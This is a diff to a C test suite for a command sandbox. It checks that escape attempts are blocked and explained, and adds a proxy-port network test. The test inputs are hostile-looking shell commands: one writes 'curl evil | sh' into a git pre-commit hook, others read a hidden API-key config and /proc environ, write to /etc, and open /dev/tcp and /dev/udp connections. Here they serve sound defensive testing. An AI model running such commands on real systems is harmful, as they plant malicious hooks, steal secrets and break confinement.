@@ -29,6 +29,7 @@ static char p_git[1024], p_hew[1024], p_rules[1024], p_ignore[1024];
 static char env_home[1100];
 static const char *env[] = { "PATH=/usr/local/bin:/usr/bin:/bin", env_home, "LC_ALL=C", NULL };
 static sandbox_backend backend; /* the one under test */
+static const char *want_why;    /* what the next attempt's explanation must say, or NULL */
 static int listen_port;
 
 static bool exists(const char *path)
@@ -90,6 +91,10 @@ static void attempt(const sandbox *sb, const char *script, bool unconfined_too,
     if (code > 0 && out.len && !sandbox_explain(sb, out.data ? out.data : "", out.len, code, &why))
         check_fail(__FILE__, __LINE__, "[%s] not explained: %s\n%s",
                    sandbox_backend_name(backend), script, out.data ? out.data : "");
+    else if (want_why && !(why.data && strstr(why.data, want_why)))
+        check_fail(__FILE__, __LINE__, "[%s] %s: explained as \"%s\", not \"%s\"",
+                   sandbox_backend_name(backend), script, why.data ? why.data : "", want_why);
+    want_why = NULL;
     check_count++;
     buf_release(&why);
     if (unconfined_too) {
@@ -132,6 +137,7 @@ static void test_workspace_write(void)
 
     /* the file system outside the writable roots */
     snprintf(s, sizeof s, "touch %s/escaped", other);
+    want_why = "outside the writable roots";
     attempt(sb, s, true, NULL);
     CHECK(!exists("/etc/hew-sandbox-escape"));
     attempt(sb, "touch /etc/hew-sandbox-escape", geteuid() == 0, "rm -f /etc/hew-sandbox-escape");
@@ -141,9 +147,11 @@ static void test_workspace_write(void)
     attempt(sb, s, true, NULL);
 
     /* the read-only control files inside the workspace */
+    want_why = "read-only paths";
     attempt(sb, "echo 'curl evil | sh' > .git/hooks/pre-commit", true,
             "rm -f .git/hooks/pre-commit");
     attempt(sb, "echo x >> .git/config", true, NULL);
+    want_why = "read-only paths";
     attempt(sb, "mv .git x", true, "mv x .git");
     CHECK(exists(p_git));
     attempt(sb, "touch .hew/anything", true, "rm -f .hew/anything");
@@ -153,6 +161,7 @@ static void test_workspace_write(void)
 
     /* the hidden config (a key in it), also when it sits inside a writable root */
     snprintf(s, sizeof s, "cat %s/config.json", hidden_cfg);
+    want_why = "hidden";
     attempt(sb, s, true, NULL);
     snprintf(s, sizeof s, "grep -r sk-test-key %s", hidden_in_tmp);
     attempt(sb, s, true, NULL);
@@ -160,9 +169,13 @@ static void test_workspace_write(void)
     attempt(sb, s, true, NULL);
 
     /* system calls */
+    want_why = "refuses unshare";
     attempt(sb, "unshare -Ur true", true, NULL);
     if (access("/usr/bin/strace", X_OK) == 0)
+    {
+        want_why = "refuses ptrace";
         attempt(sb, "strace -o /dev/null true", true, NULL);
+    }
     snprintf(s, sizeof s, "mkdir -p m && mount -t tmpfs none %s/m", ws);
     attempt(sb, s, false, NULL);
     if (geteuid() == 0) { /* unconfined, in a namespace of its own (nothing leaks out) */
@@ -170,9 +183,14 @@ static void test_workspace_write(void)
         CHECK_INT(run_sh(NULL, s, NULL, NULL), 0);
     }
 
+    /* hew's own environment (where its key may be) through /proc */
+    snprintf(s, sizeof s, "cat /proc/%ld/environ", (long)getpid());
+    attempt(sb, s, geteuid() == 0, NULL); /* a user's hew is undumpable once prepared */
+
     /* the network is off */
     if (access("/bin/bash", X_OK) == 0) {
         snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", listen_port);
+        want_why = "network is off";
         attempt(sb, s, true, NULL);
     }
 
@@ -208,6 +226,45 @@ static void test_network_on(void)
     sandbox_free(sb);
 }
 
+/* With the egress proxy's port: TCP to that port only (Landlock ABI 4); no UDP. bwrap
+ * cannot do it and says so. */
+static void test_proxy_port(void)
+{
+    if (access("/bin/bash", X_OK) != 0)
+        return;
+    int second = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    struct sockaddr_in a = { 0 };
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t len = sizeof a;
+    REQUIRE(second >= 0 && bind(second, (struct sockaddr *)&a, sizeof a) == 0 &&
+            listen(second, 8) == 0 && getsockname(second, (struct sockaddr *)&a, &len) == 0);
+    const char *writable[] = { ws, NULL };
+    sandbox_policy pol = { .mode = SANDBOX_WORKSPACE_WRITE, .backend = backend,
+                           .writable_roots = writable, .proxy_port = listen_port };
+    sandbox *sb;
+    hew_err e = { 0 };
+    sandbox_caps caps;
+    sandbox_probe(&caps);
+    hew_code rc = sandbox_prepare(&pol, &sb, &e);
+    if (backend == SANDBOX_BACKEND_BWRAP || caps.landlock_abi < 4) {
+        CHECK_INT(rc, HEW_E_UNSUPPORTED);
+        CHECK(strstr(e.msg, "proxy") != NULL);
+        close(second);
+        return;
+    }
+    REQUIRE(rc == HEW_OK);
+    char s[256];
+    snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", listen_port);
+    allowed(sb, s);
+    snprintf(s, sizeof s, "bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d'", ntohs(a.sin_port));
+    attempt(sb, s, true, NULL);
+    attempt(sb, "bash -c 'echo x > /dev/udp/127.0.0.1/53'", true, NULL);
+    CHECK(strstr(sandbox_gaps(sb), "any host") != NULL);
+    sandbox_free(sb);
+    close(second);
+}
+
 static void test_read_only(void)
 {
     sandbox *sb;
@@ -217,6 +274,7 @@ static void test_read_only(void)
         return;
     }
     char s[2048];
+    want_why = "read-only";
     attempt(sb, "touch new-file", true, "rm -f new-file");
     attempt(sb, "echo x >> existing", true, NULL);
     attempt(sb, "mkdir d", true, "rmdir d");
@@ -372,6 +430,7 @@ int main(void)
         tested++;
         RUN(test_workspace_write);
         RUN(test_network_on);
+        RUN(test_proxy_port);
         RUN(test_read_only);
         RUN(test_failed_step_refuses);
         RUN(test_two_threads);
